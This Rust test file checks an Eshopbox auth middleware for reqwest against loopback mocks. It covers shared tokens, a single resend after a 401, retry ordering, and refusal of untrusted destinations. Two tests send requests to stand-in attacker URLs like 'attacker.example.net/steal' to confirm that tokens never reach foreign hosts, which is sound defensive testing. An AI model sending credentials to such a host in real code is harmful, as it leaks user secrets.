//! `EshopboxAuthMiddleware` on a `reqwest_middleware` client, on loopback: one token
//! shared with the tower services of the same layer, the destination guard, one
//! resend after a 401, and `reqwest-retry` next to it.

#[allow(dead_code)]
#[path = "../examples/reqwest_middleware.rs"]
mod example;

mod support;

use std::time::Duration;

use eshopbox_auth::mock::MockEshopbox;
use eshopbox_auth::reqwest::ReqwestService;
use eshopbox_auth::{Error, ErrorKind, EshopboxAuthLayer};
use http::StatusCode;
use reqwest_middleware::{ClientBuilder, ClientWithMiddleware};
use reqwest_retry::policies::ExponentialBackoff;
use reqwest_retry::RetryTransientMiddleware;
use support::{credentials, Reply, TokenServer};
use tower::{Layer, ServiceExt};

/// Bound on anything that could hang: generous, so that only a hang (not a loaded
/// machine) reaches it.
const LIMIT: Duration = support::WAIT_LIMIT;

async fn bounded<T>(future: impl std::future::Future<Output = T>) -> T {
    tokio::time::timeout(LIMIT, future)
        .await
        .expect("the request hangs")
}

fn kind_of(err: &reqwest_middleware::Error) -> Option<ErrorKind> {
    match err {
        reqwest_middleware::Error::Middleware(e) => e
            .downcast_ref::<eshopbox_auth::Error>()
            .map(eshopbox_auth::Error::kind),
        reqwest_middleware::Error::Reqwest(_) => None,
    }
}

fn retry(max_retries: u32) -> RetryTransientMiddleware<ExponentialBackoff> {
    let policy = ExponentialBackoff::builder()
        .retry_bounds(Duration::from_millis(1), Duration::from_millis(5))
        .build_with_max_retries(max_retries);
    RetryTransientMiddleware::new_with_policy(policy)
}

#[tokio::test]
async fn one_token_for_the_middleware_and_the_tower_services_of_a_layer() {
    let eshopbox = MockEshopbox::start().await.unwrap();
    let layer = EshopboxAuthLayer::builder(eshopbox.credentials())
        .token_url(&eshopbox.token_url())
        .build()
        .unwrap();
    let tower_client = layer.layer(ReqwestService::default());
    let client = example::eshopbox_client(&layer);
    let url = eshopbox.url("/api/v2/inventoryListing");
    let tower_get = || {
        let request = http::Request::get(&url)
            .body(reqwest::Body::default())
            .unwrap();
        tower_client.clone().oneshot(request)
    };

    assert_eq!(bounded(tower_get()).await.unwrap().status(), 200);
    let res = bounded(client.get(&url).send()).await.unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(
        eshopbox.token_calls(),
        1,
        "the middleware fetched its own token"
    );

    // A revoked token: the middleware drops it for both and resends once, with a
    // POST body reqwest holds in memory.
    eshopbox.revoke_tokens();
    let res = bounded(
        client
            .post(eshopbox.url("/api/v1/orders"))
            .body(r#"{"orderId":"A-1"}"#)
            .send(),
    )
    .await
    .unwrap();
    assert_eq!(res.status(), 200);
    let echoed: serde_json::Value = serde_json::from_str(&res.text().await.unwrap()).unwrap();
    assert_eq!(echoed["received"], r#"{"orderId":"A-1"}"#.len());
    assert_eq!((eshopbox.unauthorized(), eshopbox.token_calls()), (1, 2));
    assert_eq!(bounded(tower_get()).await.unwrap().status(), 200);
    assert_eq!(
        eshopbox.token_calls(),
        2,
        "the tower service did not reuse it"
    );
    assert_eq!(layer.handle().stats().resends, 1);
}

#[tokio::test]
async fn a_foreign_host_is_refused_before_the_request_leaves() {
    // `attacker.example.net` resolves to a loopback server here: had the request
    // been sent, that server would see it.
    let foreign = TokenServer::counting(3600).await;
    let endpoint = TokenServer::counting(3600).await;
    let layer = EshopboxAuthLayer::builder(credentials())
        .token_url(&endpoint.url())
        .build()
        .unwrap();
    let http = reqwest::Client::builder()
        .resolve("attacker.example.net", foreign.addr)
        .build()
        .unwrap();
    let client = ClientBuilder::new(http).with(layer.middleware()).build();
    let port = foreign.addr.port();
    for url in [
        format!("https://attacker.example.net:{port}/steal"),
        format!("http://attacker.example.net:{port}/steal"),
    ] {
        let err = bounded(client.get(&url).send()).await.unwrap_err();
        assert_eq!(
            kind_of(&err),
            Some(ErrorKind::UntrustedDestination),
            "{err}"
        );
        assert!(err.to_string().contains("attacker.example.net"), "{err}");
    }
    assert_eq!(foreign.posts(), 0, "a refused request was sent");
    assert_eq!(endpoint.posts(), 0, "refusing needed a token call");
    assert_eq!(layer.handle().stats().refused, 2);
}

/// The README's way to find this crate's error behind `reqwest-retry`.
fn eshopbox_error(error: &reqwest_middleware::Error) -> Option<&Error> {
    let reqwest_middleware::Error::Middleware(e) = error else {
        return None;
    };
    if let Some(found) = e.downcast_ref::<Error>() {
        return Some(found);
    }
    match e.downcast_ref::<reqwest_retry::RetryError>()? {
        reqwest_retry::RetryError::Error(inner)
        | reqwest_retry::RetryError::WithRetries { err: inner, .. } => eshopbox_error(inner),
    }
}

#[tokio::test]
async fn behind_reqwest_retry_the_error_is_found_as_the_readme_shows() {
    let endpoint = TokenServer::counting(3600).await;
    let layer = EshopboxAuthLayer::builder(credentials())
        .token_url(&endpoint.url())
        .build()
        .unwrap();
    let client = ClientBuilder::new(reqwest::Client::new())
        .with(retry(3))
        .with(layer.middleware())
        .build();
    let err = bounded(client.get("https://attacker.example.net/steal").send())
        .await
        .unwrap_err();
    // The plain downcast does not see through `RetryError`.
    assert_eq!(kind_of(&err), None, "{err}");
    assert_eq!(
        eshopbox_error(&err).map(Error::kind),
        Some(ErrorKind::UntrustedDestination),
        "{err}"
    );
}

/// A token endpoint handing out `tok-1`, `tok-2`, … and an API answering `api(n)`.
async fn api_and_endpoint(
    api: impl FnMut(usize) -> Reply + Send + 'static,
) -> (TokenServer, TokenServer, EshopboxAuthLayer) {
    let endpoint = TokenServer::counting(3600).await;
    let api = TokenServer::start(api).await;
    let layer = EshopboxAuthLayer::builder(credentials())
        .token_url(&endpoint.url())
        .build()
        .unwrap();
    (api, endpoint, layer)
}

fn authorizations(server: &TokenServer) -> Vec<String> {
    server
        .seen()
        .iter()
        .map(|seen| seen.authorization.clone().unwrap_or_default())
        .collect()
}

#[tokio::test]
async fn a_streamed_body_is_not_resent_but_its_token_is_dropped() {
    let (api, endpoint, layer) = api_and_endpoint(|_| Reply::json(401, "{}")).await;
    let client = ClientBuilder::new(reqwest::Client::new())
        .with(layer.middleware())
        .build();
    let body = reqwest::Body::wrap(http_body_util::Full::new(bytes::Bytes::from_static(
        b"streamed",
    )));
    let res = bounded(client.post(api.url()).body(body).send())
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(api.posts(), 1);
    assert!(
        layer.handle().token().is_none(),
        "the refused token is kept"
    );
    assert_eq!(layer.handle().stats().invalidations, 1);
    assert_eq!(endpoint.posts(), 1);
}

#[tokio::test]
async fn with_reqwest_retry_a_401_is_resent_once_in_either_order() {
    for retry_first in [true, false] {
        let (api, endpoint, layer) = api_and_endpoint(|_| Reply::json(401, "{}")).await;
        let client: ClientWithMiddleware = if retry_first {
            ClientBuilder::new(reqwest::Client::new())
                .with(retry(3))
                .with(layer.middleware())
                .build()
        } else {
            ClientBuilder::new(reqwest::Client::new())
                .with(layer.middleware())
                .with(retry(3))
                .build()
        };
        let res = bounded(client.get(api.url()).send()).await.unwrap();
        assert_eq!(
            res.status(),
            StatusCode::UNAUTHORIZED,
            "retry first: {retry_first}"
        );
        assert_eq!(
            authorizations(&api),
            ["Bearer tok-1", "Bearer tok-2"],
            "retry first: {retry_first}"
        );
        assert_eq!(endpoint.posts(), 2);
    }
}

#[tokio::test]
async fn with_reqwest_retry_first_each_retried_attempt_carries_the_token() {
    let (api, endpoint, layer) = api_and_endpoint(|n| match n {
        1 | 2 => Reply::json(503, "{}"),
        _ => Reply::json(200, "{}"),
    })
    .await;
    let client = ClientBuilder::new(reqwest::Client::new())
        .with(retry(3))
        .with(layer.middleware())
        .build();
    let res = bounded(client.get(api.url()).send()).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(authorizations(&api), ["Bearer tok-1"; 3]);
    assert_eq!(endpoint.posts(), 1);
}

#[tokio::test]
async fn retry_on_unauthorized_off_returns_the_401() {
    let endpoint = TokenServer::counting(3600).await;
    let api = TokenServer::start(|_| Reply::json(401, "{}")).await;
    let layer = EshopboxAuthLayer::builder(credentials())
        .token_url(&endpoint.url())
        .retry_on_unauthorized(false)
        .workspace("acme")
        .build()
        .unwrap();
    let client = ClientBuilder::new(reqwest::Client::new())
        .with(layer.middleware())
        .build();
    let res = bounded(client.get(api.url()).send()).await.unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(api.posts(), 1);
    assert_eq!(layer.handle().stats().invalidations, 1);
}
